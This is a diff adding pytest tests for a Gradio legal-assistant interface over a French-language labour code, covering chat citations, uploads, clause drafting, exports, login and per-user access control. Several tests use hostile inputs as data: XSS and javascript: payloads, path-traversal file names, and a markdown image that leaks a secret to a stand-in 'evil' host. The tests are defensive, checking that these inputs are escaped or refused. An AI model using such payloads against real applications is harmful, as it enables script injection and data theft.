@@ -1,0 +1,499 @@
+"""The web interface's handlers, called directly (no browser), over a real store and a fake model.
+
+One test also launches the real Gradio server with login to check that one user's export cannot
+be fetched by another and that the pages carry the Content-Security-Policy.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import socket
+from pathlib import Path
+from types import SimpleNamespace
+
+import gradio as gr
+import pytest
+
+from rag.engine import build_engine
+from rag.ui import (
+    ADD_OUTPUTS, CHAT_OUTPUTS, CORPUS_OUTPUTS, DRAFT_OUTPUTS, LOAD_OUTPUTS, PROJECT_OUTPUTS,
+    DownloadGuard, Handlers, SecurityHeaders, build_ui, checks_html, citations_html, launch_options, md_escape,
+)
+from rag.workspace import Authenticator, UserAccount, Workspace, load_users, safe_user_id
+from tests.conftest import HashEmbeddings
+from tests.test_answer import RecordingFake
+
+CODE = """# Code du travail (extrait de test)
+## Titre III : De la durée du travail
+### Article 184
+Dans les activités non agricoles, la durée normale de travail est fixée à 2288 heures par année ou 44 heures par semaine.
+### Article 201
+Les heures supplémentaires donnent lieu à une majoration de 25 % entre 6 heures et 21 heures et de 50 % entre 21 heures et 6 heures.
+## Titre V : Du salaire
+### Article 350
+Le salarié bénéficie d'une prime d'ancienneté de 5 % après deux ans, 10 % après cinq ans, 15 % après douze ans, 20 % après vingt ans et 25 % après vingt-cinq ans de service.
+"""
+ANSWER = "La durée normale du travail est de 44 heures par semaine [S1]."
+QUESTION = "Quelle est la durée normale du travail par semaine ? art. 184"
+
+
+def req(user: str | None) -> SimpleNamespace:
+    return SimpleNamespace(username=user)
+
+
+def named(names: tuple[str, ...], values) -> dict:
+    assert len(names) == len(values)
+    return dict(zip(names, values))
+
+
+def rows_of(value) -> list[list]:
+    return value if isinstance(value, list) else value.get("data", value)
+
+
+@pytest.fixture
+def engine(settings, tmp_path):
+    # named like the official code so that "C. trav. art. N" references of the templates resolve
+    code = tmp_path / "ma_code_travail_fr_2011.md"
+    code.write_text(CODE, encoding="utf-8")
+    eng = build_engine(settings, embedder=HashEmbeddings(), chat=RecordingFake([ANSWER]))
+    eng.index.index_paths([code], isolated=False)
+    eng.settings.min_similarity = 0.05  # the hash embedder's scale, not e5's
+    yield eng
+    eng.close()
+
+
+@pytest.fixture
+def ui(engine, settings):
+    return Handlers(engine, settings)
+
+
+def ask(ui, question, user="alice", conversation=None, **filters):
+    outs = [named(CHAT_OUTPUTS, o) for o in ui.chat_submit(question, conversation, filters.get("kinds"), filters.get("langs"), filters.get("source"), req(user))]
+    return outs
+
+
+def draft(ui, topic="Prime d'ancienneté", demands="4 % après 5 ans", variant="target", user="alice", use_model=False):
+    topic_id = next(value for title, value in ui.library_choices() if title == topic)
+    return named(DRAFT_OUTPUTS, ui.draft_clause(topic_id, "", demands, "", variant, use_model, req(user)))
+
+
+# ---- building ------------------------------------------------------------------------------------
+
+
+def test_build_ui_returns_blocks(engine, settings):
+    demo = build_ui(engine, settings)
+    assert isinstance(demo, gr.Blocks)
+    assert isinstance(demo.handlers, Handlers)
+    options = launch_options(settings)
+    assert options["allowed_paths"] == [] and str(settings.data_dir.resolve()) in options["blocked_paths"]
+    assert "unicode-bidi: plaintext" in options["css"] and options["auth"] is None
+
+
+def test_status_line_names_backend_store_and_counts(ui, settings):
+    line = ui.status_line()
+    assert "Qwen2.5-Coder-1.5B" in line or "local" in line
+    assert "chargé" in line and "ui_store" not in line
+    assert re.search(r"1 textes, \d+ passages", line)
+
+
+# ---- chat ----------------------------------------------------------------------------------------
+
+
+def test_chat_answer_streams_with_citation_chip_and_excerpt(ui):
+    outs = ask(ui, QUESTION)
+    assert len(outs) >= 2  # something is shown before the final answer
+    final = outs[-1]
+    reply = final["chatbot"][-1]
+    assert reply["role"] == "assistant" and "art. 184" in reply["content"] and "[S1]" not in reply["content"]
+    chips = final["chips"]["choices"]
+    assert chips and "art. 184" in chips[0][0]
+    title, text = ui.show_citation(chips[0][1], final["cited"])
+    assert "art. 184" in title and "44 heures par semaine" in text
+    assert final["message"] == "" and final["chat_notice"] == ""
+
+
+def test_select_an_earlier_answer_shows_its_citations(ui):
+    final = ask(ui, QUESTION)[-1]
+    chips, cited, _, _ = ui.select_message(final["conversation"], SimpleNamespace(index=1, value=""))
+    assert cited and cited[0]["article"] == "184" and chips["choices"]
+    chips, cited, _, _ = ui.select_message(final["conversation"], SimpleNamespace(index=0, value=""))  # a question
+    assert cited == [] and chips["choices"] == []
+
+
+@pytest.mark.parametrize("message,why", [("", "vide"), ("   \n ", "vide"), ("x" * 200_000, "trop long"), (None, "vide")])
+def test_empty_and_huge_messages_refused_before_the_model(ui, engine, settings, message, why):
+    outs = ask(ui, message)
+    assert len(outs) == 1
+    assert why in outs[0]["chat_notice"]
+    assert engine._chat.prompts == []  # the model never saw it
+    assert Workspace(settings.data_dir, "alice").list_conversations() == []
+    if message and len(message) > 1000:
+        assert "200\u202f000" in outs[0]["chat_notice"]
+
+
+def test_conversation_persisted_and_reloaded_after_restart(ui, engine, settings):
+    final = ask(ui, QUESTION)[-1]
+    conv_id = final["conversation"]["id"]
+    assert final["conversations"]["value"] == conv_id
+    restarted = Handlers(engine, settings)  # a new process would read the same files
+    loaded = named(LOAD_OUTPUTS, restarted.on_load(req("alice")))
+    assert [v for _, v in loaded["conversations"]["choices"]] == [conv_id]
+    opened = named(CHAT_OUTPUTS, restarted.open_conversation(conv_id, req("alice")))
+    assert [m["role"] for m in opened["chatbot"]] == ["user", "assistant"]
+    assert "art. 184" in opened["chatbot"][1]["content"] and opened["cited"][0]["article"] == "184"
+    # another user sees neither the list nor the conversation itself
+    other = named(LOAD_OUTPUTS, restarted.on_load(req("bob")))
+    assert other["conversations"]["choices"] == []
+    assert named(CHAT_OUTPUTS, restarted.open_conversation(conv_id, req("bob")))["chatbot"] == []
+    # a new conversation starts empty; deleting removes the file
+    fresh = named(CHAT_OUTPUTS, restarted.new_conversation(req("alice")))
+    assert fresh["chatbot"] == [] and fresh["conversation"]["id"] != conv_id
+    restarted.delete_conversation(opened["conversation"], req("alice"))
+    assert Workspace(settings.data_dir, "alice").list_conversations() == []
+
+
+def test_follow_up_goes_into_same_conversation(ui, engine):
+    engine._chat = RecordingFake([ANSWER, "art. 201", "Les heures de nuit sont majorées de 50 % [S1]."])
+    first = ask(ui, QUESTION)[-1]
+    second = ask(ui, "et pour les heures supplémentaires de nuit ? art. 201", conversation=first["conversation"])[-1]
+    assert second["conversation"]["id"] == first["conversation"]["id"]
+    assert len(second["chatbot"]) == 4
+
+
+def test_model_failure_is_a_clear_french_message(ui, engine):
+    engine._chat = None
+    engine.settings.llm_backend = "openai"  # no server address: the model cannot be built
+    engine.settings.openai_base_url = None
+    final = ask(ui, QUESTION)[-1]
+    reply = final["chatbot"][-1]["content"]
+    assert reply.startswith("⚠ Le modèle n'a pas pu répondre") and "RAG_OPENAI_BASE_URL" in reply
+    assert "Traceback" not in reply and "File \"" not in reply
+
+
+def test_model_cut_mid_answer_is_labelled_partial(ui, engine):
+    from tests.test_answer import FailingModel
+
+    engine._chat = FailingModel(["La durée normale est de 44 heures [S1]."], ConnectionError("connection closed before the end"))
+    final = ask(ui, QUESTION)[-1]
+    assert "interrompue" in final["chatbot"][-1]["content"].lower()
+
+
+def test_filters_keep_only_known_values(ui):
+    f = ui.filters(["law", "evil"], ["fr", "xx"], "nope.pdf")
+    assert f.kinds == ["law"] and f.langs == ["fr"] and f.sources == []
+    f = ui.filters(None, None, "ma_code_travail_fr_2011.md")
+    assert f.sources == ["ma_code_travail_fr_2011.md"]
+    # a filter that excludes every text gives "not found", not an invented answer
+    final = ask(ui, "durée du travail par semaine", kinds=["press"])[-1]
+    assert "ne traitent pas" in final["chatbot"][-1]["content"] and final["cited"] == []
+
+
+# ---- corpus ----------------------------------------------------------------------------------------
+
+
+def test_upload_good_and_fake_pdf_then_remove(ui, settings, tmp_path):
+    up = tmp_path / "upload"
+    up.mkdir()
+    good = up / "accord_test.md"
+    good.write_text("# Accord test\n### Article 1\nLe délai entre deux appels est de 20 secondes au moins.\n", encoding="utf-8")
+    fake = up / "faux.pdf"
+    fake.write_bytes(b"<html><body>pas un PDF</body></html>")
+    out = named(CORPUS_OUTPUTS, ui.index_uploads([str(good), str(fake)], req(None), progress=None))
+    results = {row[0]: row[1:] for row in out["index_results"]}
+    assert results["accord_test.md"][0] == "indexé"
+    assert results["faux.pdf"][0] == "échec" and results["faux.pdf"][1]
+    assert "1 indexé(s)" in out["corpus_notice"] and "1 en échec" in out["corpus_notice"]
+    listed = {row[0]: row for row in out["documents"]}
+    assert "accord_test.md" in listed and "faux.pdf" not in listed
+    assert "accord_test.md" in out["remove_pick"]["choices"] or ("accord_test.md", "accord_test.md") in out["remove_pick"]["choices"]
+    assert any(v == "accord_test.md" for _, v in out["source"]["choices"])
+    # the kept copy lives in a folder of our own; the failed one was discarded
+    kept = list((settings.data_dir / "_uploads").glob("*/*"))
+    assert [p.name for p in kept] == ["accord_test.md"]
+    # uploading the same file again: unchanged
+    again = named(CORPUS_OUTPUTS, ui.index_uploads([str(good)], req(None), progress=None))
+    assert again["index_results"][0][1] == "inchangé"
+    assert len(list((settings.data_dir / "_uploads").glob("*/*"))) == 1
+    removed = named(CORPUS_OUTPUTS, ui.remove_document("accord_test.md", req(None)))
+    assert "accord_test.md" not in {row[0] for row in removed["documents"]}
+    assert "retiré" in removed["corpus_notice"]
+    assert list((settings.data_dir / "_uploads").glob("*/*")) == []
+
+
+def test_hostile_upload_name_is_stored_safely(ui, settings, tmp_path):
+    up = tmp_path / "hostile"
+    up.mkdir()
+    nasty = up / "<img src=x onerror=alert(1)>.md"
+    nasty.write_text("# T\n### Article 1\nTexte de test sur les pauses.\n", encoding="utf-8")
+    progress_calls = []
+    out = named(CORPUS_OUTPUTS, ui.index_uploads([str(nasty)], req(None), progress=lambda f, desc=None: progress_calls.append((f, desc))))
+    assert out["index_results"][0][1] == "indexé"
+    assert progress_calls and all(0.0 <= f <= 1.0 for f, _ in progress_calls)
+    staged = list((settings.data_dir / "_uploads").glob("*/*"))
+    assert len(staged) == 1 and staged[0].resolve().is_relative_to((settings.data_dir / "_uploads").resolve())
+    removed = named(CORPUS_OUTPUTS, ui.remove_document(staged[0].name, req(None)))
+    assert "&lt;" not in removed["corpus_notice"] and "\\<img" in removed["corpus_notice"]  # shown escaped in Markdown
+
+
+def test_remove_and_index_refused_for_non_admin_when_login_is_on(engine, settings, tmp_path):
+    users = {"ali": UserAccount("ali", b"$2b$", admin=True), "bob": UserAccount("bob", b"$2b$", admin=False)}
+    ui = Handlers(engine, settings, users=users)
+    f = tmp_path / "x.md"
+    f.write_text("# X\n### Article 1\nTexte.\n", encoding="utf-8")
+    out = named(CORPUS_OUTPUTS, ui.index_uploads([str(f)], req("bob"), progress=None))
+    assert "administrateurs" in out["corpus_notice"] and "x.md" not in {r[0] for r in out["documents"]}
+    out = named(CORPUS_OUTPUTS, ui.remove_document("ma_code_travail_fr_2011.md", req("bob")))
+    assert "administrateurs" in out["corpus_notice"] and "ma_code_travail_fr_2011.md" in {r[0] for r in out["documents"]}
+    assert "administrateurs" in named(CORPUS_OUTPUTS, ui.reindex_all(req("bob"), progress=None))["corpus_notice"]
+    loaded = named(LOAD_OUTPUTS, ui.on_load(req("bob")))
+    assert loaded["admin_box"]["visible"] is False
+    assert named(LOAD_OUTPUTS, ui.on_load(req("ali")))["admin_box"]["visible"] is True
+    out = named(CORPUS_OUTPUTS, ui.index_uploads([str(f)], req("ali"), progress=None))
+    assert out["index_results"][0][1] == "indexé"
+
+
+def test_reindex_all_skips_unchanged(ui, engine, settings, tmp_path):
+    folder = tmp_path / "corpus"
+    folder.mkdir()
+    (folder / "fiche.md").write_text("# Fiche\n### Article 1\nRepos hebdomadaire de 24 heures.\n", encoding="utf-8")
+    settings.corpus_dirs = [folder]
+    first = named(CORPUS_OUTPUTS, ui.reindex_all(req(None), progress=None))
+    status = {r[0]: r[1] for r in first["index_results"]}
+    assert status["fiche.md"] == "indexé" and status["ma_code_travail_fr_2011.md"] == "inchangé"
+    second = named(CORPUS_OUTPUTS, ui.reindex_all(req(None), progress=None))
+    assert {r[1] for r in second["index_results"]} == {"inchangé"}
+
+
+# ---- drafting and the agreement project ------------------------------------------------------------
+
+
+def test_draft_library_topic_flags_art_350(ui):
+    out = draft(ui)
+    assert out["clause"]["template_id"] == "prime_anciennete"
+    assert "Prime d'ancienneté" in out["clause_title"] and "4 %" in out["clause_text"]
+    assert "check-below" in out["checks"] and "✘" in out["checks"] and "art. 350" in out["checks"]
+    assert "moins favorable que C. trav. art. 350" in out["checks"]
+    assert out["comparison"] and any("sous le plancher" in row[3] for row in out["comparison"])
+    assert "art. 350" in out["clause_citations"]
+    assert out["draft_notice"].startswith("Clause rédigée")
+
+
+def test_draft_with_model_shows_rationale_and_accepts_french_variant(ui, engine):
+    engine._chat = RecordingFake(["La prime rémunère la fidélité ; la loi fixe 5 % après deux ans [S1]."])
+    out = draft(ui, demands="8 % après 2 ans", variant="cible", use_model=True)
+    assert out["clause"]["variant"] == "target"
+    assert "Exposé des motifs" in out["rationale"] and "fidélité" in out["rationale"]
+    assert "check-ok" in out["checks"]
+
+
+def test_draft_refuses_bad_input(ui):
+    assert "thème" in named(DRAFT_OUTPUTS, ui.draft_clause(None, "", "", "", "target", False, req("a")))["draft_notice"]
+    assert "Variante" in named(DRAFT_OUTPUTS, ui.draft_clause("prime_anciennete", "", "", "", "extreme", False, req("a")))["draft_notice"]
+    many = "\n".join(["5 % après 2 ans"] * 30)
+    assert "Au plus" in named(DRAFT_OUTPUTS, ui.draft_clause("prime_anciennete", "", many, "", "target", False, req("a")))["draft_notice"]
+
+
+def test_add_reorder_remove_and_export(ui, settings):
+    first = draft(ui)
+    second = draft(ui, topic=next(t for t, _ in ui.library_choices() if "heures supplémentaires" in t.lower()), demands="")
+    edited = first["clause_text"] + "\n\nArticle 3 — Clause ajoutée par la délégation."
+    added = named(ADD_OUTPUTS, ui.add_to_project(first["clause"], edited, req("alice")))
+    assert "ajoutée au projet" in added["draft_notice"]
+    added = named(ADD_OUTPUTS, ui.add_to_project(second["clause"], second["clause_text"], req("alice")))
+    table = rows_of(added["project_table"])
+    assert [r[1] for r in table] == [first["clause"]["title"], second["clause"]["title"]]
+    assert table[0][3] >= 1  # the below-floor demand is counted
+
+    moved = named(PROJECT_OUTPUTS, ui.move_clause_down(0, req("alice")))
+    assert [r[1] for r in rows_of(moved["project_table"])] == [second["clause"]["title"], first["clause"]["title"]]
+    assert moved["clause_pick"]["value"] == 1  # the selection follows the clause
+    edge = named(PROJECT_OUTPUTS, ui.move_clause_down(1, req("alice")))
+    assert "extrémité" in edge["project_notice"]
+    moved = named(PROJECT_OUTPUTS, ui.move_clause_up(1, req("alice")))
+    assert [r[1] for r in rows_of(moved["project_table"])][0] == first["clause"]["title"]
+
+    path, notice = ui.export_markdown("Convention test", "Préambule de test.", req("alice"))
+    assert path and "Export prêt" in notice
+    text = Path(path).read_text(encoding="utf-8")
+    assert text.startswith("# Convention test") and "Préambule de test." in text
+    assert text.index(first["clause"]["title"]) < text.index(second["clause"]["title"])
+    assert "Clause ajoutée par la délégation" in text and "Points à corriger" in text
+    saved = settings.data_dir / "alice" / "exports"
+    assert (saved / Path(path).name).read_bytes() == Path(path).read_bytes()
+    assert not Path(path).resolve().is_relative_to(settings.data_dir.resolve())  # served copy is elsewhere
+
+    path, _ = ui.export_docx(None, None, req("alice"))
+    import docx
+
+    document = docx.Document(path)
+    body = "\n".join(p.text for p in document.paragraphs)
+    assert "Convention test" in body and first["clause"]["title"] in body
+
+    # the project survives a restart
+    again = named(PROJECT_OUTPUTS, Handlers(ui.engine, settings).project_view(req("alice")))
+    assert again["project_title"] == "Convention test" and len(rows_of(again["project_table"])) == 2
+
+    removed = named(PROJECT_OUTPUTS, ui.remove_clause(0, req("alice")))
+    assert [r[1] for r in rows_of(removed["project_table"])] == [second["clause"]["title"]]
+    assert "⚠" in named(PROJECT_OUTPUTS, ui.remove_clause(7, req("alice")))["project_notice"]
+
+
+def test_add_without_draft_or_with_empty_text_is_refused(ui):
+    assert "Rédigez d'abord" in named(ADD_OUTPUTS, ui.add_to_project(None, "texte", req("a")))["draft_notice"]
+    clause = draft(ui)["clause"]
+    assert "vide" in named(ADD_OUTPUTS, ui.add_to_project(clause, "   ", req("a")))["draft_notice"]
+    assert "aucune clause" in ui.export_markdown(None, None, req("someone-else"))[1]
+
+
+@pytest.mark.parametrize("title", ["../../etc/x", "CON", "a/b", "x" * 500, "<script>alert(1)</script>", "..", "\u202eexe.md"])
+def test_hostile_titles_give_safe_export_names(ui, settings, title):
+    ui.add_to_project(draft(ui)["clause"], None, req("alice"))
+    path, notice = ui.export_markdown(title, "", req("alice"))
+    assert path, notice
+    name = Path(path).name
+    assert re.fullmatch(r"[a-z0-9-]{1,80}\.md", name), name
+    assert name.split(".")[0] not in {"con", "prn", "nul", "aux"}
+    exports = (settings.data_dir / "alice" / "exports").resolve()
+    assert (exports / name).is_file() and all(p.resolve().parent == exports for p in exports.iterdir())
+    assert Path(path).resolve().is_relative_to(ui.download_root.resolve())
+
+
+def test_projects_are_private_per_user(ui, settings):
+    ui.add_to_project(draft(ui, user="alice")["clause"], None, req("alice"))
+    bob = named(PROJECT_OUTPUTS, ui.project_view(req("bob")))
+    assert rows_of(bob["project_table"]) == []
+    assert ui.export_markdown(None, None, req("bob"))[0] is None
+    path, _ = ui.export_markdown(None, None, req("alice"))
+    # the cached copy Gradio will serve is registered to alice only
+    cached = f"/tmp/gradio/{DownloadGuard.key(Path(path))}/{Path(path).name}"
+    assert ui.guard.allowed(cached, "alice") and not ui.guard.allowed(cached, "bob")
+    assert not (settings.data_dir / "bob" / "project.json").exists()
+    assert (settings.data_dir / "alice" / "project.json").exists()
+
+
+# ---- workspace, login, rendering ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("raw", ["../../etc", "..", ".", "a/b", "a\\b", "Alice", "ali ce", "x" * 300, "_uploads", "\u202eevil"])
+def test_user_ids_are_safe_folder_names(raw, tmp_path):
+    sid = safe_user_id(raw)
+    assert re.fullmatch(r"[a-z0-9][a-z0-9_-]*", sid) and len(sid) <= 80
+    assert Workspace(tmp_path, raw).root.parent == tmp_path
+    assert safe_user_id(None) == safe_user_id("") == "local"
+    assert safe_user_id("Alice") != safe_user_id("alice") and safe_user_id("a/b") != safe_user_id("a_b")
+
+
+def test_corrupt_project_file_is_set_aside(tmp_path):
+    ws = Workspace(tmp_path, "alice")
+    ws.root.mkdir(parents=True)
+    ws.project_file.write_text("{ not json", encoding="utf-8")
+    project = ws.load_project()
+    assert project["clauses"] == [] and list(ws.root.glob("project.json.corrupt-*"))
+
+
+def test_users_file_and_authenticator(tmp_path):
+    import bcrypt
+
+    hashed = bcrypt.hashpw(b"secret-ali", bcrypt.gensalt(rounds=4)).decode()
+    path = tmp_path / "users.txt"
+    path.write_text(f"# comment\nali:{hashed}:admin\nbob:{hashed}\n\n", encoding="utf-8")
+    users = load_users(path)
+    assert users["ali"].admin and not users["bob"].admin
+    auth = Authenticator(users, max_failures=3, lockout_s=60)
+    assert auth("ali", "secret-ali") and not auth("ali", "wrong") and not auth("nobody", "secret-ali")
+    assert auth.is_admin("ali") and not auth.is_admin("bob") and not auth.is_admin("nobody")
+    for _ in range(3):
+        assert not auth("bob", "wrong")
+    assert not auth("bob", "secret-ali")  # locked out, even with the right password
+    bad = tmp_path / "bad.txt"
+    bad.write_text("ali-without-hash\n", encoding="utf-8")
+    with pytest.raises(ValueError, match="ligne 1"):
+        load_users(bad)
+
+
+def test_rendering_escapes_untrusted_text():
+    hostile = "<img src=x onerror=alert(1)> ![](http://evil/?q=secret) [lien](javascript:alert(1))"
+    html_checks = checks_html([{"status": "below_floor", "message": hostile, "article": "350<b>"}])
+    assert "<img" not in html_checks and "&lt;img" in html_checks and "350&lt;b&gt;" in html_checks
+    html_cites = citations_html([{"label": hostile, "title": hostile, "article": "1", "page": 2, "text": hostile}])
+    assert "<img" not in html_cites and "&lt;img" in html_cites
+    md = md_escape(hostile)
+    assert re.search(r"(?<!\\)[!\[\]<>]", md) is None  # every markup character is escaped
+
+
+def test_security_headers_and_download_guard_middleware(tmp_path):
+    from starlette.applications import Starlette
+    from starlette.responses import PlainTextResponse
+    from starlette.routing import Route
+    from starlette.testclient import TestClient
+
+    guard = DownloadGuard()
+    export = tmp_path / "projet.md"
+    export.write_text("# secret", encoding="utf-8")
+    guard.grant(export, "alice")
+    key = DownloadGuard.key(export)
+
+    async def serve(request):
+        return PlainTextResponse("contenu")
+
+    app = Starlette(routes=[Route("/gradio_api/file={path:path}", serve), Route("/", serve)])
+    app.auth, app.cookie_id, app.tokens = object(), "cid", {"tok-a": "alice", "tok-b": "bob"}
+    app.add_middleware(SecurityHeaders, guard=guard)
+    client = TestClient(app)
+    page = client.get("/")
+    assert "img-src 'self' data: blob:" in page.headers["content-security-policy"]
+    url = f"/gradio_api/file=/tmp/gradio/{key}/projet.md"
+    client.cookies.set("access-token-cid", "tok-a")
+    assert client.get(url).status_code == 200
+    client.cookies.set("access-token-cid", "tok-b")
+    assert client.get(url).status_code == 403
+    assert client.get("/gradio_api/file=/tmp/gradio/unrelated/x.md").status_code == 200  # not an export
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def test_launched_app_denies_another_users_export(engine, settings, tmp_path):
+    """The real server with login: alice's export URL gives 403 to bob, the page has the CSP."""
+    import bcrypt
+    import httpx
+
+    hashed = bcrypt.hashpw(b"pw", bcrypt.gensalt(rounds=4)).decode()
+    users_file = tmp_path / "users.txt"
+    users_file.write_text(f"alice:{hashed}\nbob:{hashed}\n", encoding="utf-8")
+    users = load_users(users_file)
+    guard = DownloadGuard()
+    demo = build_ui(engine, settings, users=users, guard=guard)
+    demo.handlers.add_to_project(draft(demo.handlers)["clause"], None, req("alice"))
+    port = _free_port()
+    demo.launch(server_name="127.0.0.1", server_port=port, share=False, show_error=False, prevent_thread_lock=True,
+                quiet=True, max_file_size="5mb", **launch_options(settings, users=users, guard=guard))
+    base = f"http://127.0.0.1:{port}"
+    try:
+        def login(user):
+            client = httpx.Client(base_url=base, timeout=30)
+            assert client.post("/login", data={"username": user, "password": "pw"}).status_code == 200
+            return client
+
+        anonymous = httpx.Client(base_url=base, timeout=30)
+        assert anonymous.post("/gradio_api/call/export_markdown", json={"data": [None, None]}).status_code == 401
+        alice, bob = login("alice"), login("bob")
+        page = alice.get("/")
+        assert page.status_code == 200 and "img-src 'self'" in page.headers.get("content-security-policy", "")
+        event = alice.post("/gradio_api/call/export_markdown", json={"data": ["Projet d'Alice", "Préambule"]}).json()["event_id"]
+        stream = alice.get(f"/gradio_api/call/export_markdown/{event}").text
+        data = json.loads([line for line in stream.splitlines() if line.startswith("data:")][-1][5:])
+        served = data[0]["path"]
+        url = f"/gradio_api/file={served}"
+        assert alice.get(url).status_code == 200 and "Projet d'Alice" in alice.get(url).text
+        assert bob.get(url).status_code == 403
+        # the user data folder itself is never served
+        project = settings.data_dir / "alice" / "project.json"
+        assert project.exists() and bob.get(f"/gradio_api/file={project}").status_code == 403
+        assert alice.get(f"/gradio_api/file={project}").status_code == 403
+    finally:
+        demo.close()
